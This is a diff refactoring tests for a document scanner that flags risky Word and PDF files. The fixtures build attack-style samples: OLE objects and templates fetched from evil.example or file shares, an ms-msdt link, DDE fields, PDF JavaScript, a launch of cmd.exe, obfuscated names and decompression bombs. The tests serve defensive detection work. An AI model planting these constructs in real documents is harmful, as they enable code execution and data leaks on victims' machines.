@@ -34,20 +34,29 @@ const relation = (type: string, target: string, mode = 'TargetMode="External"'):
 const DOCUMENT_RELS = 'word/_rels/document.xml.rels';
 const withRels = (inside: string, part = DOCUMENT_RELS): Buffer => docx({ [part]: rels(inside) });
 const OLE_OBJECT = `${OFFICE}/oleObject`;
-const oleLink = (mode?: string): Buffer => withRels(relation(OLE_OBJECT, 'https://x', mode));
+/** With one relationship of this kind. */
+const linked = (kind: string, target: string, mode?: string): Buffer =>
+  withRels(relation(`${OFFICE}/${kind}`, target, mode));
+const oleLink = (mode?: string): Buffer => linked('oleObject', 'https://x', mode);
+/** The relationship to an object, written in another way. */
+const oleWritten = (change: (text: string) => string | Buffer, part = DOCUMENT_RELS): Buffer =>
+  docx({ [part]: change(rels(relation(OLE_OBJECT, 'https://x'))) });
 const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+const GOOD_LINKS = ['https://a.example', 'mailto:a@b.example', 'tel:+61', '#x'];
+const LINK_FIELD = ' HYPERLINK "https://a.example" ';
+const PICTURE_FIELD = ' INCLUDEPICTURE "https://a.example/x.png" \\* MERGEFORMATINET ';
+const range = (length: number): number[] => Array.from({ length }, (_, index) => index);
+const ATTRIBUTES = range(5_000).map((at) => `b${at}=""`);
+const HEADER_RELS = 'word/_rels/header1.xml.rels';
 const CFB_START = Buffer.from('d0cf11e0a1b11ae1', 'hex');
 const body = (inside: string): Buffer =>
   docx({ 'word/document.xml': `<w:document><w:body>${inside}</w:body></w:document>` });
 const field = (...pieces: string[]): string =>
   `<w:fldChar w:fldCharType="begin"/>${pieces.map((piece) => `<w:instrText>${piece}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`;
 
+const DEFLATED = '/Type /ObjStm /Filter /FlateDecode';
 /** A PDF with one compressed object stream, which holds these objects. */
-function pdfWithObjectStream(
-  objects: string[],
-  dictionary = '/Type /ObjStm /Filter /FlateDecode',
-  content?: Buffer,
-): Buffer {
+function pdfWithObjectStream(objects: string[], dictionary = DEFLATED, content?: Buffer): Buffer {
   let offset = 0;
   const list = objects.map((object, index) => {
     const entry = `${index + 10} ${offset}`;
@@ -63,64 +72,34 @@ function pdfWithObjectStream(
     Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'),
   ]);
 }
+const PLAIN_TEXT =
+  '9 0 obj\n<< /Length 60 >>\nstream\nBT (React/JavaScript /JavaScript) Tj ET\nendstream\nendobj\n<rdf:li>HTML/JavaScript</rdf:li>\ntrailer';
+const STRUCTURE = [
+  '<< /Type /Catalog /OpenAction [3 0 R /Fit] >>',
+  '<< /S /URI /URI (https://a.example) >>',
+  '<< /Type /StructElem /S /P >>',
+];
 const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
 
 describe('a Word document [R14.5]', () => {
   it.each<[string, Buffer, string]>([
-    ['an external OLE object', withRels(relation(OLE_OBJECT, 'https://evil.example/x.html!')), 'docx-external'],
-    ['single quotes', withRels(relation(OLE_OBJECT, 'https://x').replaceAll('"', "'")), 'docx-external'],
+    ['an external OLE object', linked('oleObject', 'https://evil.example/x.html!'), 'docx-external'],
+    ['single quotes', oleWritten((text) => text.replaceAll('"', "'")), 'docx-external'],
     ['spaces around =', oleLink('TargetMode = "External"'), 'docx-external'],
     ['an entity in External', oleLink('TargetMode="&#69;xternal"'), 'docx-external'],
-    [
-      'a relationship in UTF-16',
-      docx({ [DOCUMENT_RELS]: utf16(rels(relation(OLE_OBJECT, 'https://x')).replace('UTF-8', 'UTF-16')) }),
-      'docx-external',
-    ],
-    [
-      'a prefix before Relationship',
-      docx({
-        [DOCUMENT_RELS]: rels(relation(OLE_OBJECT, 'https://x')).replace(
-          '<Relationship ',
-          '<r:Relationship xmlns:r="x" ',
-        ),
-      }),
-      'docx-external',
-    ],
+    ['a relationship in UTF-16', oleWritten((text) => utf16(text.replace('UTF-8', 'UTF-16'))), 'docx-external'],
+    ['a prefix', oleWritten((text) => text.replace('<Relationship ', '<r:Relationship xmlns:r="x" ')), 'docx-external'],
     ['a prefixed attribute Internal', oleLink('TargetMode="External" xmlns:TargetMode="Internal"'), 'docx-external'],
-    [
-      'capitals in the name of the part',
-      withRels(relation(OLE_OBJECT, 'https://x'), 'word/_RELS/Document.xml.RELS'),
-      'docx-external',
-    ],
-    [
-      'an external part of a header',
-      withRels(relation(`${OFFICE}/image`, 'https://x/pixel.png'), 'word/_rels/header1.xml.rels'),
-      'docx-external',
-    ],
-    [
-      'an external frame',
-      withRels(relation(`${OFFICE}/frame`, '\\\\evil\\x'), 'word/_rels/webSettings.xml.rels'),
-      'docx-external',
-    ],
-    [
-      'a template on the web',
-      withRels(relation(`${OFFICE}/attachedTemplate`, 'http://evil.example/a.dotm')),
-      'docx-template',
-    ],
-    [
-      'a template on a file share',
-      withRels(relation(`${OFFICE}/attachedTemplate`, 'file:///\\\\evil\\a.dotm')),
-      'docx-template',
-    ],
+    ['capitals in the name of the part', oleWritten(String, 'word/_RELS/Document.xml.RELS'), 'docx-external'],
+    ['an external image of a header', withRels(relation(`${OFFICE}/image`, 'https://x'), HEADER_RELS), 'docx-external'],
+    ['an external frame', linked('frame', '\\\\evil\\x'), 'docx-external'],
+    ['a template on the web', linked('attachedTemplate', 'http://evil.example/a.dotm'), 'docx-template'],
+    ['a template on a file share', linked('attachedTemplate', 'file:///\\\\evil\\a.dotm'), 'docx-template'],
     ['a template of the strict format', withRels(relation(`${STRICT}/attachedTemplate`, 'https://x')), 'docx-template'],
-    [
-      'a link that starts a program',
-      withRels(relation(`${OFFICE}/hyperlink`, 'ms-msdt:/id PCWDiagnostic')),
-      'docx-external',
-    ],
+    ['a link that starts a program', linked('hyperlink', 'ms-msdt:/id PCWDiagnostic'), 'docx-external'],
     ['an OLE object outside word/embeddings', docx({ 'word/media/image1.png': CFB_START }), 'docx-embedded'],
-    ['an object by its relationship alone', withRels(relation(OLE_OBJECT, 'media/x.bin', '')), 'docx-embedded'],
-    ['a document to import', withRels(relation(`${OFFICE}/aFChunk`, 'a.mht', '')), 'docx-embedded'],
+    ['an object by its relationship alone', linked('oleObject', 'media/x.bin', ''), 'docx-embedded'],
+    ['a document to import', linked('aFChunk', 'a.mht', ''), 'docx-embedded'],
     ['a document inside', docx({ 'word/media/a.bin': docx() }), 'docx-embedded'],
     ['a program inside', docx({ 'word/media/a.dat': 'MZ\x90' }), 'docx-embedded'],
     ['a script inside', docx({ 'word/a.vbs': 'x' }), 'docx-embedded'],
@@ -128,76 +107,25 @@ describe('a Word document [R14.5]', () => {
     ['a simple field that runs a program', body('<w:fldSimple w:instr="DDE excel x"/>'), 'docx-field'],
     ['elements a million deep', body('<a>'.repeat(1_000_000)), 'docx-unchecked'],
     ['an element with a million attributes', body(`<a ${'b="" '.repeat(1_000_000)}/>`), 'docx-unchecked'],
-    [
-      'an element with many attributes',
-      body(`<a ${Array.from({ length: 5_000 }, (_, at) => `b${at}=""`).join(' ')}/>`),
-      'docx-unchecked',
-    ],
+    ['an element with many attributes', body(`<a ${ATTRIBUTES.join(' ')}/>`), 'docx-unchecked'],
     ['relationships that are not XML', docx({ [DOCUMENT_RELS]: '<Relationships' }), 'docx-unchecked'],
-    [
-      'relationships with a document type',
-      docx({ [DOCUMENT_RELS]: `<!DOCTYPE x [<!ENTITY e "External">]>${rels('')}` }),
-      'docx-unchecked',
-    ],
-    [
-      'relationships in UTF-7',
-      docx({ [DOCUMENT_RELS]: '<?xml version="1.0" encoding="utf-7"?><Relationships/>' }),
-      'docx-unchecked',
-    ],
-    [
-      'text that unpacks to 40 MB',
-      docx({
-        'word/document.xml': Buffer.concat([
-          Buffer.from('<w:document>'),
-          Buffer.alloc(40 * 1024 * 1024, 0x20),
-          Buffer.from('</w:document>'),
-        ]),
-      }),
-      'docx-unchecked',
-    ],
+    ['a document type', oleWritten((text) => `<!DOCTYPE x [<!ENTITY e "External">]>${text}`), 'docx-unchecked'],
+    ['relationships in UTF-7', oleWritten((text) => text.replace('UTF-8', 'utf-7')), 'docx-unchecked'],
+    ['text that unpacks to 40 MB', body(' '.repeat(40 * 1024 * 1024)), 'docx-unchecked'],
   ])('is put aside when it has %s', async (_what, content, sign) => {
     expect(await verdictOf(content, 'docx')).toBe(sign);
   });
 
   it.each<[string, Buffer]>([
-    [
-      'links to the web, to mail and to telephones',
-      withRels(
-        ['https://a.example', 'mailto:a@b.example', 'tel:+61', '#x']
-          .map((target) => relation(`${OFFICE}/hyperlink`, target))
-          .join(''),
-      ),
-    ],
+    ['links', withRels(GOOD_LINKS.map((target) => relation(`${OFFICE}/hyperlink`, target)).join(''))],
     [
       'a template on the sender’s own disk',
-      withRels(
-        relation(
-          `${OFFICE}/attachedTemplate`,
-          'file:///C:\\Users\\Ngaio\\AppData\\Roaming\\Microsoft\\Templates\\R%C3%A9sum%C3%A9.dotx',
-        ),
-      ),
+      linked('attachedTemplate', 'file:///C:\\Users\\Ngaio\\R%C3%A9sum%C3%A9.dotx'),
     ],
-    [
-      'a template on a Mac',
-      withRels(relation(`${OFFICE}/attachedTemplate`, 'file:///Users/ngaio/Library/Resume.dotx')),
-    ],
-    [
-      'pictures, fonts and settings',
-      docx({
-        'word/media/image1.png': '\x89PNG\r\n',
-        'word/media/image2.emf': '\x01\0\0\0',
-        'word/fonts/font1.odttf': 'x',
-        'word/settings.xml': '<w:settings/>',
-      }),
-    ],
-    [
-      'page numbers and links as fields',
-      body(
-        field(' PAGE ') +
-          field(' HYPERLINK "https://a.example" ') +
-          field(' INCLUDEPICTURE "https://a.example/x.png" \\* MERGEFORMATINET '),
-      ),
-    ],
+    ['a template on a Mac', linked('attachedTemplate', 'file:///Users/ngaio/Library/Resume.dotx')],
+    ['pictures', docx({ 'word/media/image1.png': '\x89PNG\r\n', 'word/media/image2.emf': '\x01\0\0\0' })],
+    ['fonts and settings', docx({ 'word/fonts/font1.odttf': 'x', 'word/settings.xml': '<w:settings/>' })],
+    ['page numbers and links as fields', body([' PAGE ', LINK_FIELD, PICTURE_FIELD].map((one) => field(one)).join(''))],
     ['text about DDE', body('<w:t>DDEAUTO was my thesis</w:t>')],
     ['its main part under another name', wordOnTheWeb()],
   ])('passes when it has %s', async (_what, content) => {
@@ -235,75 +163,34 @@ function damagedText(): Buffer {
 describe('a PDF [R14.5]', () => {
   it.each<[string, Buffer, string]>([
     ['a script in a compressed object', pdfWithObjectStream([SCRIPT]), 'pdf-active'],
-    [
-      'a script in the last of many',
-      pdfWithObjectStream([...Array<string>(50).fill('<< /A 1 >>'), SCRIPT]),
-      'pdf-active',
-    ],
+    ['a script in the last of many', pdfWithObjectStream([...range(50).map(() => '<< /A 1 >>'), SCRIPT]), 'pdf-active'],
     ['a hidden name in a compressed object', pdfWithObjectStream(['<< /S /Java#53cript >>']), 'pdf-active'],
     ['a script after an open string', pdfWithObjectStream(['(open', SCRIPT]), 'pdf-active'],
     ['a launch action', pdfWithObjectStream(['<< /S /Launch /F (cmd.exe) >>']), 'pdf-active'],
     ['a file inside', pdfWithObjectStream(['<< /Names << /EmbeddedFiles 3 0 R >> >>']), 'pdf-active'],
     ['a link into another machine', pdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) >>'), 'pdf-active'],
-    [
-      'a hidden type of its object stream',
-      pdfWithObjectStream([SCRIPT], '/Type /Obj#53tm /Filter /FlateDecode'),
-      'pdf-active',
-    ],
+    ['a hidden type', pdfWithObjectStream([SCRIPT], '/Type /Obj#53tm /Filter /FlateDecode'), 'pdf-active'],
     ['an object stream without a type', pdfWithObjectStream([SCRIPT], '/Filter /FlateDecode'), 'pdf-active'],
-    [
-      'a plain object stream',
-      pdfWithObjectStream([SCRIPT], '/Type /ObjStm', Buffer.from(`10 0 ${SCRIPT}`)),
-      'pdf-active',
-    ],
+    ['plain objects', pdfWithObjectStream([SCRIPT], '/Type /ObjStm', Buffer.from(`10 0 ${SCRIPT}`)), 'pdf-active'],
     ['a comment inside an action', pdf('/OpenAction << /S%x\n/JavaScript >>'), 'pdf-active'],
     ['another compression', pdfWithObjectStream([SCRIPT], '/Type /ObjStm /Filter /LZWDecode'), 'pdf-unchecked'],
+    ['two compressions', pdfWithObjectStream([SCRIPT], '/Type /ObjStm /Filter [/AHx /FlateDecode]'), 'pdf-unchecked'],
     [
-      'two compressions',
-      pdfWithObjectStream([SCRIPT], '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]'),
+      'objects of 100 MB',
+      pdfWithObjectStream(['1'], DEFLATED, deflateSync(Buffer.alloc(100 * 1024 * 1024))),
       'pdf-unchecked',
     ],
-    [
-      'an object stream of 100 MB',
-      pdfWithObjectStream(
-        ['1'],
-        '/Type /ObjStm /Filter /FlateDecode',
-        deflateSync(Buffer.alloc(100 * 1024 * 1024, 0x20)),
-      ),
-      'pdf-unchecked',
-    ],
-    [
-      'a damaged object stream',
-      pdfWithObjectStream(['1'], '/Type /ObjStm /Filter /FlateDecode', Buffer.from('nothing')),
-      'pdf-unchecked',
-    ],
+    ['a damaged object stream', pdfWithObjectStream(['1'], DEFLATED, Buffer.from('nothing')), 'pdf-unchecked'],
     ['objects that are read over and over', repeatedObjects(), 'pdf-unchecked'],
   ])('is put aside when it has %s', async (_what, content, sign) => {
     expect(await verdictOf(content, 'pdf')).toBe(sign);
   });
 
   it.each<[string, Buffer]>([
+    ['data that resembles the name of an action', pdf('/JS\x80 /#41#42#43 /F#41 /Launchpad /OpenAction')],
     ['text about scripts', pdfWithObjectStream(['<< /Title (HTML/CSS/JavaScript and /Launch) /Alt <4a61> >>'])],
-    [
-      'plain text about scripts',
-      Buffer.from(
-        pdf()
-          .toString('latin1')
-          .replace(
-            'trailer',
-            '9 0 obj\n<< /Length 60 >>\nstream\nBT (React/JavaScript /JavaScript) Tj ET\nendstream\nendobj\n<rdf:li>HTML/JavaScript</rdf:li>\ntrailer',
-          ),
-        'latin1',
-      ),
-    ],
-    [
-      'an outline, links and a tree of its structure',
-      pdfWithObjectStream([
-        '<< /Type /Catalog /OpenAction [3 0 R /Fit] >>',
-        '<< /S /URI /URI (https://a.example) >>',
-        '<< /Type /StructElem /S /P >>',
-      ]),
-    ],
+    ['plain text about scripts', Buffer.from(pdf().toString('latin1').replace('trailer', PLAIN_TEXT), 'latin1')],
+    ['an outline, links and a tree of its structure', pdfWithObjectStream(STRUCTURE)],
   ])('passes when it has %s', async (_what, content) => {
     expect(await verdictOf(content, 'pdf')).toBe('clean');
   });
